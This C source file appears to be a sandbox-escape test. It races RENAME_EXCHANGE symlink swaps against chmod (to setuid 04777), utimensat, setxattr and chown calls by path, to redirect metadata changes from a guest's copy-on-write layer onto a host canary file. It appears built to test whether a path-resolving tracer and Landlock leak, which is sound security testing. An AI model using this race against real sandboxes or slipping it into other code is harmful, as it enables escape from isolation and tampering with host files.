/* chmod/utimensat/setxattr/chown by path while another thread swaps the
 * directory on the way with a symlink to a host directory (both in the
 * guest's copy-on-write layer), RENAME_EXCHANGE in a tight loop.
 *
 *   escape_vfs_meta_race WORKDIR NAME HOST_DIR ITERATIONS
 *
 * WORKDIR/d/NAME is the guest's own file; HOST_DIR/NAME the canary.  The
 * tracer resolves "d/NAME" while d is a directory; if it then hands the
 * kernel a path the kernel walks again, the swap sends the change to
 * HOST_DIR/NAME.  Landlock has no right for metadata changes. */
#include "escape_common.h"
#include <pthread.h>
#include <sys/stat.h>
#include <sys/xattr.h>

static volatile int stop;
static char d[4096], s[4096];

static void *swapper(void *arg) {
    (void)arg;
    while (!stop) syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, s, 2 /* RENAME_EXCHANGE */);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    char file[4096];
    snprintf(d, sizeof d, "%s/d", argv[1]);
    snprintf(s, sizeof s, "%s/s", argv[1]);
    snprintf(file, sizeof file, "%s/%s", d, argv[2]);
    if (mkdir(d, 0755) < 0) return 3;
    int fd = open(file, O_WRONLY | O_CREAT, 0644);
    if (fd < 0) return 4;
    close(fd);
    if (symlink(argv[3], s) < 0) return 5;
    long iters = argl(argv, 4), ok = 0;
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    struct timespec ts[2] = {{12345, 0}, {12345, 0}};
    for (long i = 0; i < iters; i++) {
        ok += chmod(file, 04777) == 0;
        ok += utimensat(AT_FDCWD, file, ts, 0) == 0;
        ok += setxattr(file, "user.pwned", "1", 1, 0) == 0;
        ok += chown(file, getuid() == 0 ? 1 : (long)getuid(), -1) == 0;
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("ok=%ld\n", ok);
    return 0;
}
